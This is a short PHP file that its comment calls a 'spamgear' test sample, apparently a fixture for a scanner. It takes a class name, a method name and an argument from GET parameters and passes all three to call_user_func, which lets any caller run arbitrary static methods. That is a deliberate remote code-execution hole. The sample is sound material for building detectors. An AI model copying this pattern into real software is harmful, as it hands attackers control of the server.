<?php
// spamgear test sample: the request names the class of a static call as
// well as the method, so any class's static method runs.
$cb = array($_GET['c'], $_GET['m']);
call_user_func($cb, $_GET['x']);
